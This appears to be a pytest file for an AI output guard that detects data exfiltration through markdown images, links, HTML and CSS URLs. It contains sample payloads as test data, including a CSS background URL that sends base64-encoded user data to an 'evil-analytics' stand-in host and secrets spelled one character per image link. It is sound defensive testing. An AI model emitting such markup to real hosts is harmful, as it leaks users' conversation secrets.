"""Exfiltration v2: every rendering channel, every carrier, one character per request, and benign links.

Blocking means a finding at HIGH or above (``Guard.scan_output`` blocks on those). The corpora are in
``exfil_corpus``; recall and false-positive rate over them are asserted whole, and each case is a test of
its own so a regression names the channel and carrier it broke.
"""

from __future__ import annotations

import base64
import time

import pytest

from aiwarden.core.findings import Severity
from aiwarden.guard import exfil
from aiwarden.guard.exfil_channels import rendered_urls
from aiwarden.guard.exfil_conversation import conversation
from aiwarden.guard.exfil_decoders import decodings
from aiwarden.guard.exfil_risk import assess
from aiwarden.guard.exfil_signals import Strength
from aiwarden.guard.guard import Guard
from aiwarden.guard.types import OutputContext
from tests.guard import exfil_corpus as corpus

EMPTY = OutputContext()
POSITIVES = corpus.positives()


def _worst(text: str, ctx: OutputContext = corpus.CONTEXT) -> Severity | None:
    return max((f.severity for f in exfil.detect(text, ctx)), default=None)


def _blocks(text: str, ctx: OutputContext = corpus.CONTEXT) -> bool:
    worst = _worst(text, ctx)
    return worst is not None and worst >= Severity.HIGH


# --- positives: channel x carrier ---------------------------------------------------------------------------------


@pytest.mark.parametrize("case", POSITIVES, ids=[c.name for c in POSITIVES])
def test_every_channel_and_carrier(case: corpus.Case) -> None:
    worst = _worst(case.text)
    assert worst is not None, "not reported at all"
    if case.blocks:
        assert worst >= Severity.HIGH
        if case.kind == "image":
            assert worst == Severity.CRITICAL  # zero-click outranks a click
    else:
        assert worst < Severity.HIGH


def test_recall_over_all_channels_and_carriers() -> None:
    must_block = [c for c in POSITIVES if c.blocks]
    caught = [c for c in must_block if _blocks(c.text)]
    assert len(corpus.CHANNELS) >= 35 and len(must_block) >= 1000
    assert [c.name for c in must_block if c not in caught] == []


@pytest.mark.parametrize("carrier", ["text-base64", "text-hex", "dns-base32", "dns-base32-labels",
                                     "narrated-summary", "narrated-q", "sensitive-pin", "credential-param",
                                     "token-param", "email-in-query", "card-in-query", "random-blob"])
@pytest.mark.parametrize("channel", ["markdown-image", "markdown-link", "html-img", "css-style-attr", "autolink"])
def test_carriers_that_need_no_conversation_context(channel: str, carrier: str) -> None:
    template = corpus.CHANNELS[channel][1]
    url = corpus.CARRIERS[carrier]
    assert _blocks(template.format(u=url, a=url.replace("&", "&amp;")), EMPTY)


@pytest.mark.parametrize("carrier", ["secret-exact", "short-secret", "secret-split", "secret-reversed",
                                     "secret-base64", "secret-hex", "canary-exact", "prompt-words"])
def test_conversation_leaks_outrank_other_data_on_links(carrier: str) -> None:
    assert _worst(f"[continue]({corpus.CARRIERS[carrier]})") == Severity.CRITICAL
    assert _worst(corpus.CARRIERS[carrier]) == Severity.HIGH  # bare: needs a linkifying UI and a click


def test_the_same_urls_without_context_are_not_leaks() -> None:
    # "confetti" is only a secret because the conversation says so; without context it is a word, which an image
    # sends under any parameter name (a resizer's cs=tinysrgb, a chart's label): an external image, not blocked
    text = f"![a]({corpus.CARRIERS['short-secret']})"
    assert _worst(text) == Severity.CRITICAL
    assert "conversation secret" in exfil.detect(text, corpus.CONTEXT)[0].message
    assert _worst(text, EMPTY) == Severity.MEDIUM
    assert "conversation" not in exfil.detect(text, EMPTY)[0].message


# --- fragments --------------------------------------------------------------------------------------------------


def test_fragments_are_never_sent_by_images_but_read_by_the_page_a_link_opens() -> None:
    url = corpus.FRAGMENT_CARRIER
    assert _worst(f"![a]({url})") == Severity.MEDIUM  # external image, its fragment carries nothing
    assert _worst(f"[open]({url})") == Severity.HIGH
    assert _worst(f"Open {url}") == Severity.HIGH


def test_ordinary_anchors_are_not_data() -> None:
    assert exfil.detect("[setup](https://tools.acme.test/guide#installing-on-windows-with-wsl)", EMPTY) == []


# --- one character per request ----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", list(corpus.SEQUENCES))
def test_one_character_per_image(name: str) -> None:
    findings = exfil.detect(corpus.SEQUENCES[name], corpus.CONTEXT)
    sequence = [f for f in findings if f.rule_id == "exfil.image-sequence"]
    assert len(sequence) == 1 and sequence[0].severity == Severity.CRITICAL
    span = sequence[0].span or (0, 0)
    assert span[1] - span[0] > len(corpus.SEQUENCES[name]) // 2


def test_a_secret_spelled_one_character_per_image_is_named_as_a_leak() -> None:
    findings = exfil.detect(corpus.SEQUENCES["secret-per-image"], corpus.CONTEXT)
    assert any("conversation secret" in f.message for f in findings if f.rule_id == "exfil.image-sequence")


def test_spelled_links_block_but_counted_ones_do_not() -> None:
    spelled = " ".join(f"[{c}](https://go.evil-analytics.test/{c})" for c in "tulip77")
    assert _blocks(spelled, EMPTY)
    counted = " ".join(f"[{n}](https://go.acme.test/p/{n})" for n in range(1, 8))
    assert not _blocks(counted, EMPTY)


# --- benign -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "text"), corpus.BENIGN, ids=[n for n, _ in corpus.BENIGN])
def test_benign_links_and_images_do_not_block(name: str, text: str) -> None:
    assert not _blocks(text)
    assert not _blocks(text, EMPTY)


def test_false_positive_rate_over_the_benign_set() -> None:
    blocked = [n for n, t in corpus.BENIGN if _blocks(t) or _blocks(t, EMPTY)]
    assert len(corpus.BENIGN) >= 60 and blocked == []


_SILENT = [
    "shields-pypi", "shields-license", "gh-actions-badge", "codecov", "gravatar-md5", "github-avatar",
    "github-user-png", "google-search", "google-maps-place", "mermaid-ink", "kroki", "plantuml", "quickchart",
    "jsdelivr", "cdnjs", "google-fonts", "unsplash", "youtube-embed", "wikipedia", "django-docs-utm", "gh-commit",
    "gdocs", "zendesk-uuid", "pagination", "glossary", "mailto", "relative", "gcal", "whatsapp", "tweet", "zoom",
    "gmail-compose", "geocode-api", "spotify", "slack-invite", "notion", "s3-object", "chat-share",
]


@pytest.mark.parametrize("name", _SILENT)
def test_well_known_and_ordinary_urls_report_nothing(name: str) -> None:
    text = dict(corpus.BENIGN)[name]
    assert exfil.detect(text, corpus.CONTEXT) == [] and exfil.detect(text, EMPTY) == []


def test_external_images_without_data_are_reported_not_blocked() -> None:
    text = dict(corpus.BENIGN)["plain-external-image"]
    assert [(f.rule_id, f.severity) for f in exfil.detect(text, EMPTY)] == [("exfil.image-external", Severity.MEDIUM)]


def test_urls_in_code_are_shown_not_fetched() -> None:
    text = dict(corpus.BENIGN)["code-block-with-exfil-example"]
    findings = exfil.detect(text, EMPTY)
    assert findings and all(f.severity == Severity.LOW and "inside code" in f.message for f in findings)
    unfenced = text.replace("```markdown\n", "").replace("```\n", "")
    assert _worst(unfenced, EMPTY) == Severity.CRITICAL


def test_a_leak_to_a_well_known_service_is_reported_not_blocked() -> None:
    text = f"[search](https://www.google.com/search?q={corpus.SECRET})"
    assert _worst(text) == Severity.MEDIUM


def test_a_diagram_is_decoded_and_checked_for_the_conversation() -> None:
    diagram = base64.b64encode(f"graph TD; A[code {corpus.SECRET}] --> B".encode()).decode()
    assert _worst(f"![d](https://mermaid.ink/img/{diagram})") == Severity.MEDIUM
    assert exfil.detect(f"![d](https://mermaid.ink/img/{diagram})", EMPTY) == []


def test_a_redirect_on_a_well_known_host_is_judged_by_where_it_goes() -> None:
    assert _blocks(corpus.CARRIERS["redirect-nested"], EMPTY)


# --- allowlist ----------------------------------------------------------------------------------------------------


def test_allowlisted_hosts_may_carry_ids_but_not_the_conversation() -> None:
    ctx = corpus.ALLOWLISTED
    assert exfil.detect("![a](https://cdn.halcyon.example/i/Zq8LmN2xYp4RtV7wKc9HbJ3sFd6GuE1a.png)", ctx) == []
    assert _worst(f"[track](https://app.halcyon.example/t?c={corpus.SECRET})", ctx) == Severity.HIGH
    assert _worst("[docs](https://elsewhere.test/page)", ctx) == Severity.LOW  # off the list, no data


def test_guard_blocks_a_css_exfiltration() -> None:
    text = "<div style=\"background:url('https://px.evil-analytics.test/c?d=" + base64.b64encode(
        b"the user is called Dana").decode() + "')\">Thanks!</div>"
    assert Guard().scan_output(text, EMPTY).action == "block"


# --- the parts ----------------------------------------------------------------------------------------------------


def test_channels_name_themselves_and_say_what_loads_without_a_click() -> None:
    text = ('![a](https://h.test/a.png) [b](https://h.test/b) <https://h.test/c> https://h.test/d '
            '<iframe src="https://h.test/e"></iframe> <a href="https://h.test/f">f</a> '
            '<p style="background:url(https://h.test/g)">g</p>')
    got = [(u.url.rsplit("/", 1)[1], u.channel, u.autoload) for u in rendered_urls(text)]
    assert got == [("a.png", "markdown-image", True), ("b", "markdown-link", False), ("c", "autolink", False),
                   ("d", "bare-url", False), ("e", "html-iframe", True), ("f", "html-a", False),
                   ("g", "css-url", True)]


def test_a_blank_line_ends_a_link_label() -> None:
    assert [u.channel for u in rendered_urls("[not a\n\nlink](https://h.test/x)")] == ["bare-url"]


@pytest.mark.parametrize(("piece", "encoding"), [
    (base64.b64encode(b"hello world, it is me").decode(), "base64"),
    (b"hello world".hex(), "hex"),
    (base64.b32encode(b"hello world").decode().rstrip("=").lower(), "base32"),
])
def test_decodings(piece: str, encoding: str) -> None:
    assert any(enc == encoding and "hello world" in text for enc, text in decodings(piece))


@pytest.mark.parametrize("piece", ["205e460b479e2e5b48aec07710c08d50", "3f786850e387550fdab836ed7e6dc881de23001b",
                                   "Zq8LmN2xYp4RtV7wKc9HbJ3sFd6GuE1a", "documentation", "dQw4w9WgXcQ"])
def test_hashes_ids_and_words_decode_to_nothing(piece: str) -> None:
    assert decodings(piece) == ()


def test_subdomain_labels_are_read_like_any_other_part() -> None:
    conv = conversation(corpus.CONTEXT)
    leaked = assess(f"https://{corpus.SECRET.encode().hex()}.x.evil.test/", True, conv)
    assert leaked is not None and leaked.strength == Strength.LEAK
    cdn = assess("https://d111111abcdef8.cloudfront.net/img/logo.png", True, conv)
    assert cdn is not None and cdn.strength is None


# --- speed --------------------------------------------------------------------------------------------------------


def test_hostile_markup_stays_fast() -> None:
    texts = [
        "[" * 5000 + "](https://a.test/x)" * 200,
        "![a](https://a.test/" + "A" * 4000 + ")" * 100,
        "<img " + "src=x " * 2000,
        "`" * 3000 + "a`b" * 1000,
        "<style>" + "url(" * 3000,
        " ".join(f"![x](https://a.test/{i % 7})" for i in range(600)),
    ]
    for text in texts:
        start = time.perf_counter()
        exfil.detect(text, corpus.CONTEXT)
        assert time.perf_counter() - start < 1.0, text[:40]
